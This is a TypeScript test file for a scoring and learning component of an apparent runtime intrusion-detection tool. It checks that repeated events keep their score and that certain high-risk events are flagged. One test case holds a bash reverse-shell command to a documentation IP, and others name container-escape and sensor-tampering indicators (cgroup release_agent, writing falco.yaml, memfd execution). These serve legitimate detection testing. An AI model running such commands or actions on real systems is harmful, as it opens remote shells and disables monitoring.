import type { Event, Judgement } from '@eyrie/schemas';
import { describe, expect, it } from 'vitest';
import { anEvent, IDENTITY } from './core/score/score.test-support.ts';
import { Learner } from './learner.ts';

const FOLDED = { outcome: 'folded', reason: 'repeat', identity: IDENTITY } as unknown as Judgement;

function scores(...events: readonly Event[]) {
  const learner = new Learner();
  return events.map((event) => {
    const score = learner.score({ event, identity: IDENTITY, fingerprint: 'same', count: 1 });
    learner.learn(event, FOLDED);
    return score;
  });
}

describe('a repeat', () => {
  it('that tells nothing new has the score it had', () => {
    const [first, second] = scores(
      anEvent({ command_line: 'cat /tmp/run-123' }, 0),
      anEvent({ command_line: 'cat /tmp/run-456' }, 5),
    );
    expect(second).toBe(first);
  });

  it.each([
    ['reverse_shell', { command_line: 'bash -c bash -i >& /dev/tcp/203.0.113.9/443 0>&1' }],
    ['release_agent', { file_name: '/sys/fs/cgroup/release_agent' }],
    ['sensor_tampering', { file_name: '/etc/falco/falco.yaml', exe_flags: 'O_WRONLY' }],
    ['memfd', { exe_flags: 'EXE_FROM_MEMFD' }],
  ])('that stands on the floor %s is seen', (floor, fields) => {
    const before = anEvent({ command_line: 'cat /etc/hosts', file_name: '/etc/hosts' }, 0);
    expect(scores(before, anEvent(fields, 5))[1]?.floor).toBe(floor);
  });

  it('in another hour is scored anew', () => {
    const [first, second] = scores(anEvent({}, 0), anEvent({}, 3_600_000));
    expect(second).not.toBe(first);
  });

  it('of another pod teaches that pod', () => {
    const learner = new Learner();
    for (const [at, pod_uid] of ['one', 'two', 'two'].entries()) {
      const event = anEvent({}, at);
      const identity = { ...IDENTITY, pod_uid };
      learner.score({ event, identity, fingerprint: 'same', count: at });
      learner.learn(event, { ...FOLDED, identity } as Judgement);
    }
    const row = learner.takeChanges().find(([key]) => key.includes('/process/'))?.[1];
    expect(JSON.parse(row?.toString() ?? '{}').row.pods).toEqual(['one', 'two']);
  });
});
